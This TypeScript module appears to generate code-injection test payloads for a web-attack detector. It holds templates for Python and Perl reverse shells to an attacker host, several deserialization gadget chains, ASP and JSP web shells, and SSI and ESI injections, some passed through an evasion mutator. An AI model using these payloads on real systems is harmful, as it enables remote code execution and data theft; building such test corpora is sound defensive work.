/** Python, Ruby, Perl and .NET code and objects, and directives that a server includes in its pages. */
import type { Family } from '../../family.ts';
import {
  ALPHANUMERIC,
  characters,
  integer,
  LOWER_CASE,
  maybe,
  oneOf,
  type Rule,
  text,
  weighted,
} from '../../grammar.ts';
import { evade } from '../../mutators/evade.ts';
import { attackerHost, identifier, privateIp, probeNumber, sensitiveFile, shellCommand, token } from '../lexicon.ts';
import { ANY_INPUT, ARGUMENTS, familyOf } from '../places.ts';
import { amongMembers, anywhere } from '../surroundings.ts';

const pythonCall: Rule = oneOf(
  text`__import__('os').${oneOf('system', 'popen')}('${shellCommand}')${maybe('.read()')}`,
  text`__import__("os").${oneOf('listdir("/")', 'environ', 'getcwd()', '_exit(0)')}`,
  text`__import__('subprocess').${oneOf('check_output', 'getoutput', 'Popen', 'run', 'call')}('${shellCommand}',shell=True)`,
  text`import os;os.system('${shellCommand}')`,
  text`import os; os.popen("${shellCommand}").read()`,
  text`import subprocess;subprocess.${oneOf('call', 'Popen', 'check_output')}(['${oneOf('id', 'ls', 'sh')}'${maybe(",'-c'")}])`,
  text`import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${attackerHost}",${integer(1024, 9999)}));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])`,
  text`open('${sensitiveFile}').read()`,
  text`().__class__.__bases__[0].__subclasses__()[${integer(10, 500)}]`,
  text`[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('${shellCommand}')`,
  text`__import__('time').sleep(${integer(2, 30)})`,
  text`getattr(__import__('o'+'s'),'sys'+'tem')('${shellCommand}')`,
  text`__builtins__.__dict__['__import__']('os').system('${shellCommand}')`,
  text`breakpoint();import os;os.system("${shellCommand}")`,
);
const python: Rule = oneOf(
  pythonCall,
  text`${oneOf('eval', 'exec')}("${pythonCall}")`,
  text`${oneOf('eval', 'exec')}(compile("""${pythonCall}""","","${oneOf('single', 'exec', 'eval')}"))`,
  text`${oneOf("'", '"', "')", '")', '1')}${oneOf('+', ' or ', ';', ' and ', '\n')}${pythonCall}${oneOf('#', "+'", ' #', '')}`,
  text`exec(__import__('base64').b64decode('${characters(ALPHANUMERIC, 16, 80)}=='))`,
  text`lambda ${identifier}: ${pythonCall}`,
);
const pythonObject: Rule = oneOf(
  text`!!python/object/${oneOf('apply', 'new')}:${oneOf('os.system', 'subprocess.Popen', 'subprocess.check_output', 'os.popen', 'eval')} ["${shellCommand}"]`,
  text`!!python/object/apply:os.system\nargs: ['${shellCommand}']`,
  text`${identifier}: !!python/object/apply:subprocess.Popen\n- !!python/tuple\n  - ${shellCommand}`,
  text`!!python/name:${oneOf('os.system', 'builtins.eval', 'posix.system')} ''`,
  text`!!python/module:${token}`,
  text`c${oneOf('os', 'posix', 'subprocess', '__builtin__')}\n${oneOf('system', 'popen', 'eval')}\n(S'${shellCommand}'\ntR.`,
  text`cos\nsystem\n(S'${shellCommand}'\ntR.`,
  text`gASV${characters(`${ALPHANUMERIC}+/`, 8, 20)}jAVwb3NpeJSMBnN5c3RlbZST${characters(`${ALPHANUMERIC}+/`, 16, 120)}==`,
  text`Y29zCnN5c3RlbQoo${characters(`${ALPHANUMERIC}+/`, 16, 80)}=`,
  text`{"py/reduce":[{"py/type":"${oneOf('os.system', 'subprocess.Popen', 'posix.system')}"},{"py/tuple":["${shellCommand}"]}]}`,
  text`{"py/object":"__main__.${identifier}","py/state":{"py/function":"os.system"}}`,
);
const ruby: Rule = oneOf(
  text`#{\`${shellCommand}\`}`,
  text`Kernel.${oneOf('system', 'exec', 'open')}('${maybe('|')}${shellCommand}')`,
  text`Kernel.sleep(${integer(2, 20)})`,
  text`${oneOf("'", '"', '1')};${oneOf('eval', 'instance_eval', 'Kernel.eval')}("${oneOf('system', 'exec')}('${shellCommand}')")#`,
  text`IO.${oneOf('popen', 'read', 'binread')}('${oneOf(shellCommand, sensitiveFile)}')${maybe('.read')}`,
  text`Marshal.load(Base64.decode64('BAh${characters(ALPHANUMERIC, 16, 80)}'))`,
  text`BAhv${oneOf('Og', 'OkBBY3RpdmVTdXBwb3J0', 'SToM')}${characters(`${ALPHANUMERIC}+/`, 24, 120)}==`,
  text`--- !ruby/object:${oneOf('Gem::Installer', 'Gem::SpecFetcher', 'Gem::Requirement', 'ERB', 'Net::BufferedIO', 'Gem::Package::TarReader')}\n${oneOf('i', 'x', 'template')}: ${oneOf('x', shellCommand)}`,
  text`--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n'foo; ${oneOf('eval', 'system')}("${shellCommand}")': !ruby/object:OpenStruct\n  table: {}`,
  text`!ruby/object:${oneOf('OpenStruct', 'Gem::Requirement', 'ERB')} {${identifier}: ${token}}`,
  text`<%= ERB.new(File.read('${sensitiveFile}')).result %>`,
  text`%x(${shellCommand})`,
  text`${oneOf('params', 'self', 'Object')}.${oneOf('send', 'public_send', 'const_get')}(:${oneOf('eval', 'system', 'exec')},"${shellCommand}")`,
);
const perl: Rule = oneOf(
  text`${oneOf("'", '"', '1')};${oneOf('system', 'exec')}("${shellCommand}");#`,
  text`print \`${shellCommand}\`;`,
  text`\${\\system("${shellCommand}")}`,
  text`@{[system('${shellCommand}')]}`,
  text`open(${identifier},"${shellCommand}|");print <${identifier}>;`,
  text`use Socket;$i="${attackerHost}";$p=${integer(1024, 9999)};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));exec("/bin/sh -i");`,
  text`eval { system("${shellCommand}") };`,
  text`'.system('${shellCommand}').'`,
  text`require '${sensitiveFile}';print(${probeNumber}*${probeNumber});`,
  text`os.execute("${shellCommand}")`,
  text`io.popen('${shellCommand}'):read('*a')`,
);
const dotNetType: Rule = oneOf(
  'System.Windows.Data.ObjectDataProvider, PresentationFramework',
  'System.Configuration.Install.AssemblyInstaller, System.Configuration.Install',
  'System.Management.Automation.PSObject, System.Management.Automation',
  'System.Diagnostics.Process, System',
  'System.Security.Principal.WindowsIdentity, mscorlib',
  'System.IO.FileInfo, System.IO.FileSystem',
  'System.Windows.ResourceDictionary, PresentationFramework',
  'System.Activities.Presentation.WorkflowDesigner, System.Activities.Presentation',
  'System.Web.Security.RolePrincipal, System.Web',
);
const dotNet: Rule = oneOf(
  text`{"$type":"${dotNetType}${maybe(', Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35')}","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c ${shellCommand}"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}`,
  amongMembers(text`"$type":"${dotNetType}"`),
  text`{"__type":"${dotNetType}","MethodName":"Start","ObjectInstance":{"__type":"System.Diagnostics.Process, System","StartInfo":{"FileName":"cmd","Arguments":"/c ${shellCommand}"}}}`,
  text`<ObjectDataProvider MethodName="Start" xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:d="clr-namespace:System.Diagnostics;assembly=System"><ObjectDataProvider.ObjectInstance><d:Process><d:Process.StartInfo><d:ProcessStartInfo Arguments="/c ${shellCommand}" FileName="cmd"/></d:Process.StartInfo></d:Process></ObjectDataProvider.ObjectInstance></ObjectDataProvider>`,
  text`AAEAAAD/////AQAAAAAAAAAMAgAAA${characters(`${ALPHANUMERIC}+/`, 20, 200)}`,
  text`/wEy${characters(`${ALPHANUMERIC}+/`, 8, 30)}AAEAAAD/////AQAAAAAAAAA${characters(`${ALPHANUMERIC}+/`, 20, 160)}==`,
  text`System.Diagnostics.Process.Start("${oneOf('cmd.exe', 'powershell.exe', '/bin/sh')}","${oneOf('/c ', '-c ')}${shellCommand}")`,
  text`<%@ Page Language="${oneOf('C#', 'Jscript')}"%><%${oneOf(text`eval(Request.Item["${identifier}"],"unsafe");`, text`Response.Write(new System.Diagnostics.Process());`)}%>`,
  text`<%${oneOf('eval', 'execute', 'ExecuteGlobal')} request("${identifier}")%>`,
  text`response.write(${probeNumber}*${probeNumber})`,
  text`'+response.write(${probeNumber}*${probeNumber})+'`,
  text`"+response.write(${probeNumber}*${probeNumber})+"`,
  text`<xsl:stylesheet xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:user="urn:x"><msxsl:script language="C#">public string x(){System.Diagnostics.Process.Start("cmd","/c ${shellCommand}");return "";}</msxsl:script></xsl:stylesheet>`,
);
const jspPage: Rule = oneOf(
  text`<%@ page import="java.io.*"%><%Runtime.getRuntime().exec(request.getParameter("${identifier}"));%>`,
  text`<jsp:scriptlet>Runtime.getRuntime().exec("${shellCommand}");</jsp:scriptlet>`,
  text`<%out.print(${probeNumber}*${probeNumber});new java.io.File(application.getRealPath(request.getServletPath())).delete();%>`,
  text`<cfexecute name="${oneOf('cmd.exe', '/bin/sh')}" arguments="${oneOf('/c', '-c')} ${shellCommand}" timeout="${integer(1, 30)}"></cfexecute>`,
);
const gap: Rule = weighted([6, ' '], [1, '  '], [1, '\t'], [1, '+']);
const ssi: Rule = oneOf(
  text`<!--#exec${gap}cmd=${oneOf('"', "'", '')}${shellCommand}${oneOf('"', "'")}${maybe(' ')}-->`,
  text`<!--#exec${gap}cgi="/cgi-bin/${characters(LOWER_CASE, 3, 8)}.cgi" -->`,
  text`<!--#include${gap}${oneOf('virtual', 'file')}="${oneOf(sensitiveFile, '../../../../etc/passwd', '/cgi-bin/counter.pl', 'config.inc')}"${maybe(' ')}-->`,
  text`<!--#echo${gap}var="${oneOf('DATE_LOCAL', 'DOCUMENT_NAME', 'REMOTE_ADDR', 'DOCUMENT_URI', 'HTTP_USER_AGENT', 'DOCUMENT_ROOT', 'DATE_GMT', 'SERVER_SOFTWARE')}"${maybe(' ')}-->`,
  text`<!--#${oneOf('printenv', 'config errmsg="File not found"', text`fsize file="${sensitiveFile}"`, text`flastmod virtual="${token}.html"`, text`set var="${identifier}" value="${token}"`)}${maybe(' ')}-->`,
  text`<esi:include src=${oneOf('"', "'", '')}http${maybe('s')}://${oneOf(attackerHost, privateIp)}/${token}${oneOf('"', "'")}${maybe(text` stylesheet="http://${attackerHost}/${token}.xsl"`, 0.4)}${maybe(' ')}/>`,
  text`<esi:${oneOf('inline name="/x.html" fetchable="yes"', text`debug`, text`vars`, text`assign name="${identifier}" value="'x'"`, 'remove')}/>${maybe(text`$(HTTP_COOKIE{${identifier}})`, 0.7)}<esi:vars>$(${oneOf('HTTP_COOKIE', 'HTTP_HOST', 'QUERY_STRING', 'REMOTE_ADDR')})</esi:vars>`,
  text`x=<esi:assign name="var1" value="${integer(1, 99)}"/><esi:vars>$(${identifier}${maybe(text`{'${token}'}`)})</esi:vars>`,
  text`<pre><!--#exec cmd="${shellCommand}" --></pre>`,
);

/** Code and objects of other languages, and server-side includes. */
export const OTHER_LANGUAGE_FAMILIES: readonly Family[] = [
  familyOf('code-injection', 'python-call', anywhere(python), ANY_INPUT),
  familyOf('code-injection', 'python-object', evade(pythonObject), [...ARGUMENTS, 'REQUEST_COOKIES'], 0.6),
  familyOf('code-injection', 'ruby', anywhere(ruby), ANY_INPUT, 0.7),
  familyOf('code-injection', 'perl-and-lua', anywhere(perl), ANY_INPUT, 0.4),
  familyOf('code-injection', 'dot-net-and-jsp', evade(weighted([4, dotNet], [1, jspPage])), ANY_INPUT, 0.8),
  familyOf('code-injection', 'server-side-include', anywhere(ssi), ANY_INPUT),
];
